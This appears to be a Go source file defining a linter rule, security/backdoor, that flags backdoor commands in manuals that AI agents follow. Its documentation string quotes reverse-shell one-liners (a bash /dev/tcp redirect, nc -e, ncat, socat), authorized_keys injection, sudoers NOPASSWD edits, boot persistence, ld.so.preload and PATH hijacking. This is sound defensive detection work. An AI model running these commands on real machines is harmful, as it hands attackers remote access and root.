package lint

import (
	"github.com/lorekit/lore/internal/diag"
	"github.com/lorekit/lore/internal/lint/scan"
)

var securityBackdoor = securityRule(&Rule{
	ID: "security/backdoor", Severity: diag.Error,
	Summary: "a command that gives someone else access to the machine",
	Doc: "An agent runs the commands its manuals show, on a developer's machine or a CI runner with its credentials. The rule " +
		"reports, wherever security/remote-exec reads commands (code blocks, inline code, shipped scripts; also disguised), a " +
		"command that opens that machine to someone else: a reverse shell (`bash -i >& /dev/tcp/host/port 0>&1`, `nc -e /bin/sh`, " +
		"`ncat -c cmd.exe`, `socat … exec:`, a FIFO piped into nc, a Python socket handed to a shell) and a key written into " +
		"`~/.ssh/authorized_keys` (`>>`, `tee -a`); a remote login forwarded to another host (`ssh -R 8080:localhost:22`, RDP and " +
		"VNC ports, a reverse SOCKS proxy `ssh -R 1080`, `RemoteForward`), so that whoever reaches that host can log in here; root " +
		"without a password (`NOPASSWD` written into sudoers); a download installed where the system runs it at every boot, login " +
		"or program start (a systemd unit, a cron file, a shell profile, sudoers, a launch agent); and a library written into " +
		"`/etc/ld.so.preload`, which every program then loads; a PATH entry in a world-writable folder (/tmp, /var/tmp, /dev/shm) or " +
		"an LD_PRELOAD written into a shell profile (`echo 'export PATH=/tmp/.bin:$PATH' >> ~/.bashrc`), so that whoever writes " +
		"there runs code as that user. A port check (`echo > /dev/tcp/localhost/5432`, `nc -z`), reading " +
		"those files, a local forward (`ssh -L`), a dev server shared over `ssh -R` and a PATH line of the user's own folders " +
		"appended to `.bashrc` (`$HOME/.cargo/bin`) are not reported. A command that is both (`… | sudo tee /etc/sudoers.d/x`) is reported here, not as security/remote-exec. No " +
		"manual needs an agent to run one: delete the command.",
}, "delete the command", func(t *scanText) []scan.Hit {
	return execHits(t, true)
})
